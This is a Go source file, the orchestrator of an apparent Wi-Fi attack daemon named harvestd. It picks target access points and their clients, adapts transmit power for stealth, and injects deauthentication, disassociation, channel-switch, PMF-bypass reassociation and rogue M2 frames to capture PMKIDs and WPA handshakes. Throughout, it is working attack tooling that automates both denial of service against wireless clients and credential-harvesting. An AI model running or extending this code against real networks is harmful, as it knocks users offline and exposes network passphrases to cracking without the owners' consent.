// Package orchestrator implements the per-candidate attack driver (C8,
// §4.8): priority scoring, cooldown enforcement, TX-power adaptation, and
// dispatch into the §4.7 frame catalogue.
package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/google/uuid"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/trace"

	"github.com/corvid-labs/harvestd/internal/adapters/sniffer/frame"
	"github.com/corvid-labs/harvestd/internal/core/domain"
	"github.com/corvid-labs/harvestd/internal/core/ports"
	"github.com/corvid-labs/harvestd/internal/core/services/bandit"
	"github.com/corvid-labs/harvestd/internal/core/services/throttle"
)

var attemptTracer = otel.Tracer("harvestd/orchestrator")

var (
	ErrNoInjectorAvailable     = errors.New("orchestrator: no injector available")
	ErrBlacklisted             = errors.New("orchestrator: target is blacklisted")
	ErrSessionSourceUnavailable = errors.New("orchestrator: session source unavailable")
)

// Cooldown is the minimum time between non-passive attacks on the same AP
// (§4.8, §8 law 6).
const Cooldown = 5 * time.Second

// StealthLevel gates the TX-power adaptation strategy (§4.8). It is not one
// of the C5 mode-bandit arms; see DESIGN.md's Open Question decision for
// why it is modeled as a small independent enum instead of folding it into
// bandit.Mode.
type StealthLevel int

const (
	StealthPassive StealthLevel = iota
	StealthMedium
	StealthAggressive
)

// StealthFromMode derives a StealthLevel from the current C5 mode, the
// simplest mapping that keeps §4.8's three TX-power strategies reachable
// from the loop without inventing a fifth independent bandit.
func StealthFromMode(m bandit.Mode) StealthLevel {
	switch m {
	case bandit.ModePassive:
		return StealthPassive
	case bandit.ModeActive:
		return StealthAggressive
	default:
		return StealthMedium
	}
}

// STA is the minimal shape the orchestrator needs about a candidate
// station (its address).
type STA struct {
	MAC string
}

// Candidate bundles one AP entity with up to a handful of its observed
// stations, as handed in by the loop after channel/candidate selection
// (§4.12 step 9: "cap at 3 strongest").
type Candidate struct {
	AP   *domain.Entity
	STAs []STA
}

// Config bundles the orchestrator's tunables (§6).
type Config struct {
	ThrottleA float64
	ThrottleD float64
	TXPowerMin int
	TXPowerMax int
	EnabledPhases [8]bool
}

// Deps bundles the orchestrator's collaborators.
type Deps struct {
	Injector ports.FrameInjector
	Session  ports.SessionSource
	Phase    *bandit.PhaseBandit
	Throttle *throttle.Tracker
	RNG      ports.RandSource
	Clock    ports.Clock
	Sleep    func(time.Duration)
}

// Orchestrator is C8.
type Orchestrator struct {
	cfg  Config
	deps Deps
	seq  frame.SeqCounters
}

// New constructs an Orchestrator. A nil Sleep defaults to time.Sleep.
func New(cfg Config, deps Deps) *Orchestrator {
	if deps.Sleep == nil {
		deps.Sleep = time.Sleep
	}
	if deps.Clock == nil {
		deps.Clock = ports.RealClock
	}
	return &Orchestrator{cfg: cfg, deps: deps}
}

// Priority implements §4.8's per-candidate priority score:
// 1/(1+|rssi+50|/30) · (1 + 0.3·clients_count).
func Priority(rssi, clientsCount int) float64 {
	d := rssi + 50
	if d < 0 {
		d = -d
	}
	return (1 / (1 + float64(d)/30)) * (1 + 0.3*float64(clientsCount))
}

// rssiMultiplier implements the five-bucket throttle multiplier of §4.8.
func rssiMultiplier(rssi int) float64 {
	switch {
	case rssi >= -50:
		return 0.3
	case rssi >= -60:
		return 0.5
	case rssi >= -70:
		return 1.0
	case rssi >= -80:
		return 1.8
	default:
		return 2.5
	}
}

// txPower implements §4.8's TX-power adaptation for the given stealth
// level: linear interpolation by RSSI under PASSIVE, max under AGGRESSIVE,
// uniform random under MEDIUM.
func txPower(level StealthLevel, rssi int, cfg Config, rng ports.RandSource) int {
	switch level {
	case StealthAggressive:
		return cfg.TXPowerMax
	case StealthMedium:
		span := cfg.TXPowerMax - cfg.TXPowerMin
		if span <= 0 {
			return cfg.TXPowerMin
		}
		return cfg.TXPowerMin + int(rng.Float64()*float64(span))
	default: // StealthPassive
		// Map rssi in [-100, -30] onto [min, max].
		clamped := rssi
		if clamped < -100 {
			clamped = -100
		}
		if clamped > -30 {
			clamped = -30
		}
		frac := (float64(clamped) + 100) / 70
		span := float64(cfg.TXPowerMax - cfg.TXPowerMin)
		return cfg.TXPowerMin + int(frac*span)
	}
}

// phaseFailureWeight is the §4.8 step "small k (phase-dependent, 0.02-0.20)"
// applied to the provisional miss recorded on every attempt.
var phaseFailureWeight = [bandit.NumPhases]float64{
	bandit.PhasePMKID:          0.05,
	bandit.PhaseCSA:            0.1,
	bandit.PhaseTargetedDeauth: 0.15,
	bandit.PhasePMFBypass:      0.2,
	bandit.PhaseDisassoc:       0.15,
	bandit.PhaseRogueM2:        0.2,
	bandit.PhaseProbe:          0.02,
	bandit.PhasePassive:        0.02,
}

// Attempt runs one orchestrator pass over a single candidate AP (§4.8): it
// computes priority, enforces cooldown, selects and executes a phase, and
// records the provisional (always-false) observation the end-of-epoch pass
// will later overwrite on success.
func (o *Orchestrator) Attempt(ctx context.Context, c Candidate, phaseSelected int, level StealthLevel, epochNum int) error {
	attemptID := uuid.New()
	ctx, span := attemptTracer.Start(ctx, "attack_attempt", trace.WithAttributes(
		attribute.String("attempt.id", attemptID.String()),
		attribute.String("attempt.bssid", c.AP.ID),
		attribute.Int("attempt.phase", phaseSelected),
	))
	defer span.End()

	if o.deps.Injector == nil {
		return ErrNoInjectorAvailable
	}
	now := o.deps.Clock.Now()
	priority := Priority(c.AP.LastRSSI, c.AP.ClientsCount)

	if !c.AP.LastAttacked.IsZero() && now.Sub(c.AP.LastAttacked) < Cooldown && phaseSelected != bandit.PhasePMKID && phaseSelected != bandit.PhasePassive {
		o.deps.Phase.ObserveWeighted(c.AP, phaseSelected, false, priority*0.01)
		return nil
	}

	if o.deps.Throttle.IsBlacklisted(c.AP.ID, now) {
		return ErrBlacklisted
	}

	pw := txPower(level, c.AP.LastRSSI, o.cfg, o.deps.RNG)
	if o.deps.Session != nil {
		_ = o.deps.Session.Command(ctx, fmt.Sprintf("set wifi.txpower %d", pw))
	}

	if err := o.executePhase(phaseSelected, c); err != nil {
		return fmt.Errorf("orchestrator: execute phase %d: %w", phaseSelected, err)
	}

	c.AP.LastAttacked = now
	o.deps.Throttle.SetLastPhase(c.AP.ID, phaseSelected)

	// Background PMKID opportunity: any phase other than PMKID itself
	// (passive listen included) also tries PMKID
	// once, if no handshake is on file yet (§4.8).
	if phaseSelected != bandit.PhasePMKID && !c.AP.LastAttacked.IsZero() {
		if tr, ok := o.deps.Throttle.AttackTracker(c.AP.ID); !ok || !tr.GotHandshake {
			_ = o.executePhase(bandit.PhasePMKID, c)
		}
	}

	weight := phaseFailureWeight[phaseSelected]
	o.deps.Phase.ObserveWeighted(c.AP, phaseSelected, false, priority*weight)

	o.sleepAfterPhase(phaseSelected, c.AP.LastRSSI)
	return nil
}

func (o *Orchestrator) sleepAfterPhase(phase, rssi int) {
	mult := rssiMultiplier(rssi)
	switch phase {
	case bandit.PhaseTargetedDeauth, bandit.PhaseDisassoc, bandit.PhaseCSA:
		o.deps.Sleep(time.Duration(o.cfg.ThrottleD * mult * float64(time.Second)))
	case bandit.PhasePMFBypass, bandit.PhaseRogueM2:
		o.deps.Sleep(time.Duration(o.cfg.ThrottleA * mult * float64(time.Second)))
	}
}

// executePhase dispatches into the §4.7 catalogue and injects every frame,
// honoring inter-frame jitter. Phases 2, 4 and 5 iterate over up to five of
// the candidate's observed STAs; phase 3 sends a single AP-addressed
// anonymous reassociation and does not iterate over STAs.
func (o *Orchestrator) executePhase(phase int, c Candidate) error {
	ap, err := frame.ParseMAC(c.AP.ID)
	if err != nil {
		return fmt.Errorf("parse AP MAC: %w", err)
	}

	perSTA := func(fn func(sta frame.MAC) []frame.Frame) error {
		n := len(c.STAs)
		if n > 5 {
			n = 5
		}
		for i := 0; i < n; i++ {
			sta, err := frame.ParseMAC(c.STAs[i].MAC)
			if err != nil {
				continue
			}
			if err := o.injectSequence(fn(sta)); err != nil {
				return err
			}
		}
		return nil
	}

	switch phase {
	case bandit.PhasePMKID:
		return o.injectSequence(frame.AuthAssocPMKID(ap, c.AP.SSID, o.deps.RNG, &o.seq))
	case bandit.PhaseCSA:
		if err := o.injectSequence(frame.CSABeacon(ap, c.AP.SSID, &o.seq)); err != nil {
			return err
		}
		return o.injectSequence([]frame.Frame{frame.CSAAction(ap, &o.seq)})
	case bandit.PhaseTargetedDeauth:
		return perSTA(func(sta frame.MAC) []frame.Frame {
			return frame.DeauthBidi(ap, sta, o.deps.RNG, &o.seq)
		})
	case bandit.PhasePMFBypass:
		return o.injectSequence([]frame.Frame{frame.AnonReassoc(ap, c.AP.SSID, &o.seq)})
	case bandit.PhaseDisassoc:
		return perSTA(func(sta frame.MAC) []frame.Frame {
			return frame.DisassocBidi(ap, sta, o.deps.RNG, &o.seq)
		})
	case bandit.PhaseRogueM2:
		return perSTA(func(sta frame.MAC) []frame.Frame {
			return frame.RogueM2(ap, sta, c.AP.SSID, o.deps.RNG, &o.seq)
		})
	case bandit.PhaseProbe:
		if c.AP.SSID == "" {
			return o.injectSequence([]frame.Frame{frame.ProbeUndirected(o.deps.RNG, &o.seq)})
		}
		return o.injectSequence([]frame.Frame{frame.ProbeDirected(c.AP.SSID, o.deps.RNG, &o.seq)})
	case bandit.PhasePassive:
		return nil
	default:
		return fmt.Errorf("unknown phase %d", phase)
	}
}

func (o *Orchestrator) injectSequence(frames []frame.Frame) error {
	for i, f := range frames {
		if err := o.deps.Injector.Inject(f.Bytes); err != nil {
			return err
		}
		if f.SleepAfter > 0 && i < len(frames)-1 {
			o.deps.Sleep(f.SleepAfter)
		}
	}
	return nil
}
